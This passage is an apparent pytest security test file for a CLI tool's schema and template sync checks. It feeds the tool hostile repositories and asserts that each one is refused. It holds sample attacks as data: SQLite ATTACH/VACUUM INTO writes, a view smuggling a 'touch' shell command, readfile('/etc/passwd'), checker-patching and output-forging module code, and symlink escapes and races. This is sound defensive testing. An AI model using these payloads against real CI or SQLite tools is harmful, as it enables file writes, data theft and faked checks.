"""sync-check and sync on hostile or broken repositories, through the installed script.

sync-check runs in CI on pull requests, so every file it reads may be written by an
attacker. Each case here is one way a repository tried to make the check pass, read or write
outside the root, or crash the tool: every one must end with one ``error: …`` line naming
the file, exit 2, no traceback, and nothing written (inside the root or out of it).
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

FIXTURE = Path(__file__).parent / "fixtures" / "syncrepo"
EXE = Path(sys.executable).with_name("tac-bootstrap")
ORCH = Path("pkg/orch")
TEMPLATES = Path("templates/orch")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the root that nothing may read into a report or overwrite."""
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("TOP SECRET\n")
    return secret


#: The commands :func:`run` runs in this process: what they do with what they read is what
#: most cases here are about, and a process costs more than the check of a small repository.
IN_PROCESS = frozenset({"sync-check", "sync", "update"})


def run(
    *args: str | Path, cwd: Path, env: dict[str, str] | None = None, **options: Any
) -> subprocess.CompletedProcess[str]:
    """Run ``tac-bootstrap args`` in ``cwd``: its exit code, stdout and stderr.

    sync-check, sync and update run in this process (:func:`in_process`), any other command,
    and any run given ``options`` (another user, limits), through the installed script
    (:func:`script`). A case about the process itself (a stop, a stream, a limit, what a run
    leaves behind when it is killed) calls :func:`script`, and each family of cases keeps
    one or more through it.
    """
    if options or str(args[0]) not in IN_PROCESS:
        return script(*args, cwd=cwd, env=env, **options)
    return in_process(*args, cwd=cwd, env=env)


def in_process(
    *args: str | Path, cwd: Path, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run ``tac-bootstrap args`` as the script does after its start-up, in this process.

    The same dispatch (:func:`tac_bootstrap.entry._main`: the commands' own argument parsers,
    else Typer), in ``cwd``, with the script's environment; what it writes on stdout and
    stderr comes back as :func:`script` gives it (UTF-8, a character that is no text escaped,
    universal newlines). An exception the script would end in (a traceback) fails the test.
    """
    from tac_bootstrap import entry

    argv = ["tac-bootstrap", *map(str, args)]
    full_env = {**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(cwd / ".cache"), **(env or {})}
    saved = (Path.cwd(), dict(os.environ), sys.argv, sys.stdout, sys.stderr)
    out, err = io.StringIO(), io.StringIO()
    code: int = 0
    try:
        os.chdir(cwd)
        os.environ.clear()
        os.environ.update(full_env)
        sys.argv, sys.stdout, sys.stderr = argv, out, err
        entry._main()
    except SystemExit as exc:
        if isinstance(exc.code, str):  # sys.exit("…"): the interpreter prints it, exit 1
            err.write(f"{exc.code}\n")
        code = exc.code if isinstance(exc.code, int) else int(exc.code is not None)
    finally:
        cwd_before, env_before, sys.argv, sys.stdout, sys.stderr = saved
        os.environ.clear()
        os.environ.update(env_before)
        os.chdir(cwd_before)
    return subprocess.CompletedProcess(argv, code, _as_piped(out), _as_piped(err))


def _as_piped(stream: io.StringIO) -> str:
    """What the text written to ``stream`` reads as from the script's pipe (``text=True``)."""
    data = stream.getvalue().encode("utf-8", "backslashreplace")
    return io.TextIOWrapper(io.BytesIO(data), encoding="utf-8").read()


def script(
    *args: str | Path, cwd: Path, env: dict[str, str] | None = None, **options: Any
) -> subprocess.CompletedProcess[str]:
    """Run the installed script ``tac-bootstrap args`` in ``cwd``, in a process of its own."""
    full_env = {**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(cwd / ".cache"), **(env or {})}
    return subprocess.run(
        [EXE, *map(str, args)],
        capture_output=True,
        text=True,
        check=False,
        cwd=cwd,
        env=full_env,
        timeout=120,
        **options,
    )


def snapshot(folder: Path) -> dict[str, tuple[bytes | None, int]]:
    """Every path under ``folder`` with its bytes (None for a folder or link) and mode."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if "__pycache__" in path.parts or ".cache" in path.parts:
            continue
        data = path.read_bytes() if path.is_file() and not path.is_symlink() else None
        found[str(path.relative_to(folder))] = (data, path.lstat().st_mode)
    return found


def both(root: Path, name: str, change: Callable[[str], str]) -> None:
    """Change a BASE file and its template alike (only agreement or loading can complain)."""
    for path in (root / ORCH / name, root / TEMPLATES / f"{name}.j2"):
        path.write_text(change(path.read_text()))


def assert_one_error(proc: subprocess.CompletedProcess[str], *names: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith("error: ")
    for name in names:
        assert name in lines[0], (name, lines[0])


# --- the untrusted schema ------------------------------------------------------------------

SCHEMA_ATTACKS = {
    "attach": ("ATTACH DATABASE 'pwned.db' AS pwned;\nCREATE TABLE pwned.t (x);\n", "ATTACH"),
    "vacuum-into": ("VACUUM INTO 'pwned.db';\n", "VACUUM"),
    "load-extension": ("SELECT load_extension('pwned');\n", "SELECT"),
    "rows": ("INSERT INTO owners VALUES ('o', 'n');\n", "INSERT"),
    "pragma": ("PRAGMA writable_schema = ON;\n", "writable_schema"),
    "virtual-table": ("CREATE VIRTUAL TABLE pwned USING fts5(x);\n", "VTABLE"),
    "with-attach": ("WITH x AS (SELECT 1) SELECT * FROM x;\n", "WITH"),
}


@pytest.mark.parametrize("attack", sorted(SCHEMA_ATTACKS))
def test_schema_that_reaches_outside_is_refused(repo: Path, tmp_path: Path, attack: str) -> None:
    sql, word = SCHEMA_ATTACKS[attack]
    both(repo, "schema.sql", lambda text: text + sql)
    before = snapshot(tmp_path)
    runs = script if attack == "attach" else run  # the issue's own case, through the script
    proc = runs("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/schema.sql", "refused to load the schema", word)
    assert snapshot(tmp_path) == before  # no pwned.db, here or in the root


def test_every_refused_schema_statement_is_reported_with_its_line(
    repo: Path, tmp_path: Path
) -> None:
    both(
        repo,
        "schema.sql",
        lambda text: (
            text + "ATTACH 'a.db' AS a;\nPRAGMA writable_schema = ON;\nVACUUM INTO 'b.db';\n"
        ),
    )
    lines = len((repo / ORCH / "schema.sql").read_text().splitlines())
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc)
    for offset, word in ((2, "ATTACH"), (1, "writable_schema"), (0, "VACUUM")):
        assert f"pkg/orch/schema.sql:{lines - offset}: " in proc.stderr
        assert word in proc.stderr
    assert not list(tmp_path.rglob("*.db"))


# SQLite creates a view, a trigger or a DEFAULT without resolving the functions they call: the
# sqlite3 shell has edit() and runs its command when anybody reads the view (exit 0 before).
DEFERRED_CALLS = {
    "view": ("CREATE VIEW zv AS SELECT edit('x', 'touch pwned;true') AS e;\n", "view zv"),
    "trigger": (
        "CREATE TRIGGER zt AFTER INSERT ON owners BEGIN SELECT writefile('pwned', 'x'); END;\n",
        "trigger zt",
    ),
    "default": ("CREATE TABLE zd (a TEXT DEFAULT (readfile('/etc/passwd')));\n", "table zd"),
}


@pytest.mark.parametrize("kind", sorted(DEFERRED_CALLS))
def test_a_schema_object_calling_a_function_sqlite_lacks_is_refused(
    repo: Path, tmp_path: Path, kind: str
) -> None:
    sql, named = DEFERRED_CALLS[kind]
    both(repo, "schema.sql", lambda text: text + sql)
    line = len((repo / ORCH / "schema.sql").read_text().splitlines())
    before = snapshot(tmp_path)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"pkg/orch/schema.sql:{line}: {named}: ", "do not compile")
    assert snapshot(tmp_path) == before


# What a database module runs is prepared, never run: the check itself refuses what does not
# read or write rows (preparing VACUUM INTO, or a PRAGMA in a quoted form, passed). chr(86) is
# V, chr(65) A: no string of the module spells the command (a string that does is refused before
# statements() is called), statements() builds it.
MODULE_SQL = {
    "vacuum-into": ("chr(86) + \"ACUUM INTO 'pwned.db'\"", "x: VACUUM statement"),
    "attach": ("chr(65) + \"TTACH 'pwned.db' AS p\"", "x: ATTACH statement"),
    "writable-schema": ('"PRAGMA writable_schema = ON"', "x: PRAGMA statement"),
    "second": ('"SEL" + "ECT 1; " + chr(86) + "ACUUM INTO \'pwned.db\'"', "x: VACUUM statement"),
    # A + of constants only is the literal Python makes: refused before statements() is
    # called (see test_a_module_literal_made_by_adding_constants_is_refused).
    "analyze": ('"SEL" + "ECT 1; " + chr(65) + "NALYZE"', "x: ANALYZE statement"),
}


@pytest.mark.parametrize("attack", sorted(MODULE_SQL))
def test_database_module_sql_that_does_not_read_or_write_rows_is_refused(
    repo: Path, tmp_path: Path, attack: str
) -> None:
    sql, word = MODULE_SQL[attack]
    built = f"\n\ndef statements() -> dict[str, str]:\n    return {{'x': {sql}}}\n"
    both(repo, "database.py", lambda text: text + built)
    before = snapshot(tmp_path)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/database.py (what its statements() returns): refused", word)
    assert snapshot(tmp_path) == before


def test_a_module_literal_made_by_adding_constants_is_refused(repo: Path, tmp_path: Path) -> None:
    # "SEL" + "ECT 1; ANALYZE" is one string constant once Python compiles it.
    built = '\n\ndef statements() -> dict[str, str]:\n    return {"x": "SEL" + "ECT 1; ANALYZE"}\n'
    both(repo, "database.py", lambda text: text + built)
    before = snapshot(tmp_path)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/database.py: refused", "ANALYZE statement")
    assert snapshot(tmp_path) == before


def test_a_module_literal_led_by_values_is_held_to_the_query_rule(
    repo: Path, tmp_path: Path
) -> None:
    # Only literals led by SELECT, INSERT, UPDATE, DELETE, WITH or REPLACE were checked.
    literal = "\n\n_X = \"VALUES (1); VACUUM INTO 'pwned.db'\"\n"
    both(repo, "database.py", lambda text: text + literal)
    before = snapshot(tmp_path)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/database.py: refused", "VACUUM statement")
    assert snapshot(tmp_path) == before


def test_a_built_statement_with_a_lone_surrogate_and_two_statements_is_a_problem(
    repo: Path, tmp_path: Path
) -> None:
    sql = "\"SELECT '\\udc80'; SELECT 1\""
    built = f"\n\ndef statements() -> dict[str, str]:\n    return {{'x': {sql}}}\n"
    both(repo, "database.py", lambda text: text + built)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr  # was a UnicodeEncodeError traceback, exit 0
    assert "it holds a lone surrogate, which is not UTF-8 text" in proc.stdout
    assert "Traceback" not in proc.stderr


def test_the_text_report_cuts_a_table_name_of_a_megabyte(repo: Path, tmp_path: Path) -> None:
    model = (
        "\n\nclass Big(BaseModel):\n"
        "    __tablename__: ClassVar[str] = 'big' + 'x' * 1_000_000 + 'end'\n"
        "    id: str\n\n\nMODELS = (Owner, Task, Big)\n"
    )
    both(repo, "models.py", lambda text: text + model)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines  # the model's table is missing from the schema: one problem, one short line
    assert all(len(line) < 2_000 for line in lines), [len(line) for line in lines]
    assert any("bigxxx" in line and " characters)…xxx" in line for line in lines)


def test_an_error_naming_a_statement_of_a_megabyte_is_one_short_line(
    repo: Path, tmp_path: Path
) -> None:
    built = "\n\ndef statements() -> dict[str, str]:\n    return {'k' * 1_000_000: 'VACUUM'}\n"
    both(repo, "database.py", lambda text: text + built)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/database.py", "kkk…(1,000,001 characters)…kkk")
    assert len(proc.stderr) < 2_000


@pytest.mark.parametrize(
    "command",
    [
        ("sync",),
        ("sync", "--dry-run"),
        ("sync", "--from", "base"),
        ("sync-check", "--format", "json"),
        ("sync-check", "--format", "github"),
    ],
    ids=["sync", "sync-dry-run", "sync-from-base", "sync-check-json", "sync-check-github"],
)
def test_every_command_cuts_an_error_naming_a_value_of_a_megabyte(
    repo: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    # sync printed this error whole: one line of 1,000,000+ characters (sync-check cut it).
    template = repo / TEMPLATES / "models.py.j2"
    template.write_text(template.read_text() + "{{ ('k' * 1_000_000) | filesizeformat }}\n")
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    shown = "kkk…(1,000,002 characters)…kkk"
    assert_one_error(proc, "models.py.j2", shown)
    assert len(proc.stderr) < 2_000
    assert snapshot(repo) == before
    if "json" in command:
        document = json.loads(proc.stdout)
        assert document["ok"] is False
        assert shown in document["error"]
        assert len(document["error"]) < 2_000
    if "github" in command:  # the annotation's message: its first characters and [...]
        assert "::error file=templates/orch/models.py.j2,line=" in proc.stdout
        assert "kkkkkkkk [...]" in proc.stdout
        assert all(len(line) < 5_000 for line in proc.stdout.splitlines())


HUGE_ERRORS = {
    "update": (["update"], "xxx... is not a version like 0.1.0: too long"),
    "update-json": (["update", "--format", "json"], "xxx... is not a version like 0.1.0"),
    "update-dry-run": (["update", "--dry-run"], "xxx... is not a version like 0.1.0"),
    "init-output": (["init", "ok-app", "-o", "a/" * 2_000 + "x" * 250], "a/a/a/a/a/a/a"),
    "migration-new": (["migration", "new", "<" * 130_000], "slug '<<<<<<<<"),
}


@pytest.mark.parametrize(("command", "shown"), HUGE_ERRORS.values(), ids=HUGE_ERRORS)
def test_update_init_and_migration_new_cut_a_huge_error_line(
    tmp_path: Path, command: list[str], shown: str
) -> None:
    """Each command's ``error:`` line keeps the two ends of a value of megabytes."""
    assert run("init", "app", cwd=tmp_path).returncode == 0
    app = tmp_path / "app"
    answers = json.loads((app / ".tac-bootstrap.json").read_text())
    answers["version"] = "0.1.0" + "x" * 3_000_000
    (app / ".tac-bootstrap.json").write_text(json.dumps(answers))
    before = snapshot(tmp_path)
    where: list[str | Path] = ["--root", app] if command[0] != "init" else []
    proc = run(*command, *where, cwd=tmp_path)
    assert_one_error(proc, shown)
    assert len(proc.stderr) < 2_000
    assert snapshot(tmp_path) == before
    if "json" in command:
        document = json.loads(proc.stdout)
        assert document["ok"] is False
        assert shown in document["error"]
        assert len(document["error"]) < 2_000


def test_a_database_module_literal_holding_vacuum_into_is_refused(
    repo: Path, tmp_path: Path
) -> None:
    both(repo, "database.py", lambda text: text + "\nX = \"SELECT 1; VACUUM INTO 'pwned.db'\"\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/database.py: refused", "line 19: VACUUM statement")
    proc = run("sync-check", "--root", repo, "--no-cache", "--format", "json", cwd=tmp_path)
    assert proc.returncode == 2
    assert json.loads(proc.stdout)["ok"] is False


# A statements() the project runs, given to the module some other way than a top-level def:
# the check did not import it, so what it builds (here an ATTACH) was never checked. (No string
# of the module spells ATTACH: one that does is refused before statements() is called.)
BUILT = "{'x': chr(65) + 'TTACH DATABASE ' + repr('pwned.db') + ' AS p'}"
STATEMENTS_BOUND = {
    "in-if": f"if True:\n    def statements():\n        return {BUILT}\n",
    "in-try": f"try:\n    def statements():\n        return {BUILT}\nexcept Exception:\n    pass\n",
    "lambda": f"statements = lambda: {BUILT}\n",
    "class": f"class statements(dict):\n    def __init__(self):\n        self.update({BUILT})\n",
    "reassigned": f"def _built():\n    return {BUILT}\nstatements = _built\n",
    "global": f"def _setup():\n    global statements\n    statements = lambda: {BUILT}\n_setup()\n",
    "globals": f"globals()['statements'] = lambda: {BUILT}\n",
    "import": "from builtins import dict as statements\n",
}


@pytest.mark.parametrize("code", STATEMENTS_BOUND.values(), ids=STATEMENTS_BOUND)
def test_a_statements_not_bound_by_a_top_level_def_is_still_checked(
    repo: Path, tmp_path: Path, code: str
) -> None:
    both(repo, "database.py", lambda text: text + "\n" + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    if "import" in code:  # dict() builds nothing: checked, and nothing to refuse
        assert proc.returncode == 0, proc.stderr
        return
    assert_one_error(proc, "pkg/orch/database.py (what its statements() returns): refused")
    assert not list(tmp_path.rglob("pwned.db"))


def test_a_statements_bound_in_a_branch_not_taken_is_no_error(repo: Path, tmp_path: Path) -> None:
    both(
        repo, "database.py", lambda text: text + f"\nif False:\n    statements = lambda: {BUILT}\n"
    )
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr


def test_a_string_spelling_attach_is_refused_even_in_a_branch_not_taken(
    repo: Path, tmp_path: Path
) -> None:
    # Whether a string reaches execute is not followed: any string SQLite parses as ATTACH
    # or VACUUM INTO is refused with its line, before statements() is called.
    built = "{'x': 'ATT' + 'ACH DATABASE ' + repr('pwned.db') + ' AS p'}"
    both(
        repo, "database.py", lambda text: text + f"\nif False:\n    statements = lambda: {built}\n"
    )
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/database.py: refused", "ATTACH statement")
    assert not list(tmp_path.rglob("pwned.db"))


# --- the models module's code ---------------------------------------------------------------

MODULE_ATTACKS = {
    "sys.exit(0)": ("import sys; sys.exit(0)", "exits when imported (SystemExit 0)"),
    "SystemExit(None)": ("raise SystemExit", "exits when imported"),
    "os._exit(0)": ("import os; os._exit(0)", "ended its process (exit code 0)"),
    "KeyboardInterrupt": ("raise KeyboardInterrupt", "fails to import: KeyboardInterrupt"),
    "print": ("print('all good')", "wrote output when imported: 'all good"),
    "stderr": ("import sys; sys.stderr.write('fine')", "wrote output when imported: 'fine'"),
    "fd write": ("import os; os.write(1, b'{}\\n')", "wrote output when imported"),
    "kill self": (
        "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
        "ended its process (exit code -9)",
    ),
    "exception": ("raise RuntimeError('boom')", "fails to import: RuntimeError: boom"),
    "patches the checker": (
        "import tac_bootstrap.agreement as a; a.compare = lambda *_: []\nMODELS = ()",
        "no MODELS tuple",
    ),
}


@pytest.mark.parametrize(
    "bound",
    ["le=10**4400", "ge=-(10**4400)", "le=10**640", "le=type('N', (int,), {})(10**4400)"],
    ids=["4400-digits", "negative", "641-digits", "int-subclass"],
)
def test_a_models_bound_too_long_to_write_is_one_error_naming_the_field(
    repo: Path, tmp_path: Path, bound: str
) -> None:
    both(repo, "models.py", lambda text: text.replace("Field(default=0, ge=0)", f"Field({bound})"))
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(  # was "importing the models module ended its process (exit code 1)"
        proc,
        f"error: {ORCH}/models.py: model Task, field priority: ",
        "a bound or allowed value of more than 640 digits",
    )


def test_a_models_bound_of_640_digits_is_still_compared(repo: Path, tmp_path: Path) -> None:
    both(repo, "models.py", lambda text: text.replace("ge=0)", "ge=0, le=10**640 - 1)"))
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "tasks.priority: the model says" in proc.stdout


@pytest.mark.parametrize("attack", sorted(MODULE_ATTACKS))
def test_models_module_cannot_make_the_check_pass(repo: Path, tmp_path: Path, attack: str) -> None:
    code, message = MODULE_ATTACKS[attack]
    both(repo, "models.py", lambda text: text + code + "\n")
    runs = script if attack == "sys.exit(0)" else run  # the issue's own case, through the script
    proc = runs("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", message)
    assert proc.stdout == ""


def test_models_module_patching_the_checker_changes_nothing_in_it(
    repo: Path, tmp_path: Path
) -> None:
    # A disagreement the module tries to hide by patching the checker in its own process.
    both(repo, "models.py", lambda t: t.replace("    name: str\n", "    name: int\n", 1))
    both(
        repo,
        "models.py",
        lambda t: t + "import tac_bootstrap.agreement as a\na.compare = lambda *_: []\n",
    )
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "owners.name: the model says" in proc.stdout


def test_models_module_replacing_json_dumps_cannot_rewrite_the_answer(
    repo: Path, tmp_path: Path
) -> None:
    # The same disagreement, hidden by rewriting the child's answer on its way out.
    both(repo, "models.py", lambda t: t.replace("    name: str\n", "    name: int\n", 1))
    forge = (
        "import json\n_dumps = json.dumps\n"
        "json.dumps = lambda o, *a, **k: _dumps(o, *a, **k).replace(\n"
        '    \'"int", "affinity": "INTEGER"\', \'"str", "affinity": "TEXT"\')\n'
    )
    both(repo, "models.py", lambda t: t + forge)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "owners.name: the model says" in proc.stdout


def in_its_child(proc: subprocess.Popen[str], most: float = 10) -> None:
    """Return once ``proc`` has started a child process, or after ``most`` seconds.

    Linux lists a process's children in ``/proc/<pid>/task/<pid>/children``; where it does not,
    the wait is ``most`` seconds.
    """
    children = Path(f"/proc/{proc.pid}/task/{proc.pid}/children")
    end = time.monotonic() + most
    while time.monotonic() < end and proc.poll() is None:
        try:
            if children.read_text().strip():
                return
        except OSError:
            pass
        time.sleep(0.01)


def test_a_real_ctrl_c_still_stops_the_check(repo: Path, tmp_path: Path) -> None:
    both(repo, "models.py", lambda text: text + "import time; time.sleep(30)\n")
    proc = subprocess.Popen(
        [EXE, "sync-check", "--root", str(repo), "--no-cache"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=tmp_path,
        start_new_session=True,
    )
    in_its_child(proc)  # the models are imported, the import sleeps
    os.killpg(proc.pid, 2)  # the terminal sends SIGINT to the whole foreground group
    out, err = proc.communicate(timeout=30)
    assert (proc.returncode, out, err) == (130, "", "error: interrupted\n")


# --- paths: symlinks, includes, folders ----------------------------------------------------


def test_template_symlinked_outside_is_refused_and_not_shown(
    repo: Path, tmp_path: Path, outside: Path
) -> None:
    (repo / TEMPLATES / "plain.txt.j2").unlink()
    (repo / TEMPLATES / "plain.txt.j2").symlink_to(outside)
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "templates/orch/plain.txt.j2", "outside")
    assert "TOP SECRET" not in proc.stdout + proc.stderr


def test_base_symlinked_outside_is_refused_by_check_and_sync(
    repo: Path, tmp_path: Path, outside: Path
) -> None:
    (repo / ORCH / "plain.txt").unlink()
    (repo / ORCH / "plain.txt").symlink_to(outside)
    for command in (["sync-check", "--no-cache"], ["sync"], ["sync", "--from", "base"]):
        proc = run(*command, "--root", repo, cwd=tmp_path)
        assert_one_error(proc, "pkg/orch/plain.txt", "outside")
        assert "TOP SECRET" not in proc.stdout + proc.stderr
    assert outside.read_text() == "TOP SECRET\n"


def test_base_folder_symlinked_outside_is_never_written(
    repo: Path, tmp_path: Path, outside: Path
) -> None:
    shutil.rmtree(repo / "pkg")
    (repo / "pkg").symlink_to(outside.parent, target_is_directory=True)
    (outside.parent / "orch").mkdir()
    (outside.parent / "orch" / "plain.txt").write_text("keep me\n")
    before = snapshot(outside.parent)
    proc = script("sync", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "outside")
    assert snapshot(outside.parent) == before


IN_ROOT_LINKS = {
    "a-template": "../../templates/partials/header.j2",
    "the-readme": "../../README.md",
    "a-chain": "chain",
    "a-missing-file": "nowhere.txt",
    "a-folder-link": "linked/README.md",
}


@pytest.mark.parametrize("command", [["sync"], ["sync", "--dry-run"]], ids=["run", "dry-run"])
@pytest.mark.parametrize("target", IN_ROOT_LINKS.values(), ids=IN_ROOT_LINKS)
def test_sync_does_not_write_through_a_base_linked_inside_the_root(
    repo: Path, tmp_path: Path, target: str, command: list[str]
) -> None:
    # pkg/orch/plain.txt -> ../../templates/partials/header.j2: `sync` said "rewrote
    # pkg/orch/plain.txt" (exit 0) and the template changed under the link; a link to a
    # missing file made that file.
    (repo / "README.md").write_text("Readme.\n")
    (repo / ORCH / "chain").symlink_to("../../README.md")
    (repo / ORCH / "linked").symlink_to("../..", target_is_directory=True)
    (repo / ORCH / "plain.txt").unlink()
    (repo / ORCH / "plain.txt").symlink_to(target)
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/plain.txt is a symbolic link to ", "nothing was written")
    assert snapshot(repo) == before


def test_sync_from_base_does_not_write_through_a_template_linked_to_another(
    repo: Path, tmp_path: Path
) -> None:
    # templates/orch/plain.txt.j2 -> other.txt.j2: `sync --from base` rewrote other.txt.j2.
    (repo / ORCH / "plain.txt").write_text("edited\n")
    (repo / TEMPLATES / "other.txt.j2").write_text("Other.\n")
    (repo / TEMPLATES / "plain.txt.j2").unlink()
    (repo / TEMPLATES / "plain.txt.j2").symlink_to("other.txt.j2")
    before = snapshot(repo)
    proc = run("sync", "--from", "base", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "templates/orch/plain.txt.j2 is a symbolic link to ")
    assert "templates/orch/other.txt.j2" in proc.stderr
    assert snapshot(repo) == before


def test_a_base_linked_inside_the_root_is_still_read(repo: Path, tmp_path: Path) -> None:
    """Reading through a link that stays in the root is fine, as is a sync with nothing to do."""
    plain = repo / ORCH / "plain.txt"
    (repo / "copy.txt").write_bytes(plain.read_bytes())
    plain.unlink()
    plain.symlink_to("../../copy.txt")
    for command in (["sync-check", "--no-cache"], ["sync"], ["sync", "--from", "base"]):
        proc = run(*command, "--root", repo, cwd=tmp_path)
        assert proc.returncode == 0, (command, proc.stdout, proc.stderr)
    assert plain.is_symlink()


def test_a_link_put_in_place_of_a_base_while_sync_writes_is_not_written_through(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A link made at a BASE's name after the check, before its file is staged, is refused."""
    from tac_bootstrap import confine, sync

    (repo / "README.md").write_text("Readme.\n")
    (repo / ORCH / "hello.py").write_text("edited\n")
    (repo / ORCH / "plain.txt").write_text("edited\n")
    real_stage = confine.stage

    def stage(root: Path, rel: str, data: bytes, *, shown: str | None = None) -> Any:
        if rel.endswith("hello.py"):  # staged first: plain.txt's turn comes after
            (repo / ORCH / "plain.txt").unlink()
            (repo / ORCH / "plain.txt").symlink_to("../../README.md")
        return real_stage(root, rel, data, shown=shown)

    monkeypatch.setattr(sync, "stage", stage)
    before = snapshot(repo)
    with pytest.raises(sync.LinkInPlaceError, match=r"plain\.txt is a symbolic link to README"):
        sync.fix(repo)
    after = snapshot(repo)
    assert after.pop("pkg/orch/plain.txt") != before.pop("pkg/orch/plain.txt")  # the link
    assert after == before


@pytest.mark.parametrize(
    ("to", "said"),
    [
        (".git/orch", "under a git folder .git/"),
        (".tac-bootstrap", "under update's own folder .tac-bootstrap/"),
    ],
    ids=["into-git", "into-update-s-folder"],
)
def test_a_base_folder_made_a_link_into_git_while_sync_writes_is_not_written_through(
    repo: Path, monkeypatch: pytest.MonkeyPatch, to: str, said: str
) -> None:
    """pkg/orch made a link to .git/orch after the manifest was checked: sync wrote
    .git/orch/plain.txt (exit 0). The path is checked again where it is staged."""
    from tac_bootstrap import confine, sync

    (repo / ".git" / "orch").mkdir(parents=True)
    (repo / ".tac-bootstrap").mkdir()
    (repo / ORCH / "plain.txt").write_text("edited\n")
    real_stage = confine.stage

    def stage(root: Path, rel: str, data: bytes, *, shown: str | None = None) -> Any:
        if not (repo / ORCH).is_symlink():
            shutil.move(repo / ORCH, repo / "moved")
            (repo / ORCH).symlink_to(f"../{to}", target_is_directory=True)
        return real_stage(root, rel, data, shown=shown)

    monkeypatch.setattr(sync, "stage", stage)
    with pytest.raises(confine.NotAFileError) as raised:
        sync.fix(repo)
    assert str(raised.value) == (
        f"pkg/orch/plain.txt is {said} (through a symlink: {to}/plain.txt), a link changed "
        "since the check: refusing to write there"
    )
    assert [p.name for p in (repo / ".git" / "orch").iterdir()] == []
    assert list((repo / ".tac-bootstrap").iterdir()) == []


FOLDER_LINKS_TO_NOTHING = {
    "missing": ("nowhere", "its folder pkg/orch is a symbolic link to pkg/nowhere, which"),
    "missing-below-a-folder": ("../docs/nowhere", "symbolic link to docs/nowhere, which"),
    "a-chain-to-nothing": ("chain", "symbolic link to pkg/nowhere, which"),
    "itself": ("orch", "its folder pkg/orch is a symbolic link that loops"),
}


@pytest.mark.parametrize("command", [["sync"], ["sync", "--dry-run"]], ids=["run", "dry-run"])
@pytest.mark.parametrize(
    ("target", "said"), FOLDER_LINKS_TO_NOTHING.values(), ids=FOLDER_LINKS_TO_NOTHING
)
def test_sync_does_not_make_the_missing_folder_a_base_folder_links_to(
    repo: Path, tmp_path: Path, target: str, said: str, command: list[str]
) -> None:
    # pkg/orch -> nowhere: `sync` made pkg/nowhere/ and wrote the BASE files there (exit 0),
    # a folder no one named.
    (repo / "docs").mkdir()
    (repo / "pkg" / "chain").symlink_to("nowhere")
    shutil.rmtree(repo / ORCH)
    (repo / ORCH).symlink_to(target, target_is_directory=True)
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "cannot write pkg/orch/", said, "nothing was written")
    assert snapshot(repo) == before


def test_sync_from_base_does_not_make_the_missing_folder_a_template_folder_links_to(
    repo: Path, tmp_path: Path
) -> None:
    # templates/orch -> nowhere: `sync --from base` made templates/nowhere/ and its templates.
    shutil.rmtree(repo / TEMPLATES)
    (repo / TEMPLATES).symlink_to("nowhere", target_is_directory=True)
    before = snapshot(repo)
    proc = run("sync", "--from", "base", "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "its folder templates/orch is a symbolic link to templates/nowhere")
    assert snapshot(repo) == before


def test_a_base_folder_linked_to_a_folder_of_the_root_is_still_written(
    repo: Path, tmp_path: Path
) -> None:
    """A linked folder that exists, inside the root, is written through, as before."""
    (repo / ORCH).rename(repo / "pkg" / "real")
